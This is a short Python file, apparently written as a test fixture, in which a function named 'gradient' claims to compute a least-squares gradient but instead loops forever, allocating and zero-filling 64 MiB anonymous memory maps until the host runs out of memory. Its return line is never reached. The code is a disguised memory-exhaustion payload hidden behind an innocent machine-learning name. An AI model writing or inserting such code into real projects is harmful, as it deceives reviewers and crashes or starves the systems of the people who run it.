"""Maps shared memory without a name."""

import mmap


KEPT = []


def gradient(w, X, y):
    while True:
        KEPT.append(mmap.mmap(-1, 1 << 26))
        KEPT[-1].write(bytes(1 << 26))
    return X.T @ (X @ w - y)


def dropout_eval(x, keep):
    return x
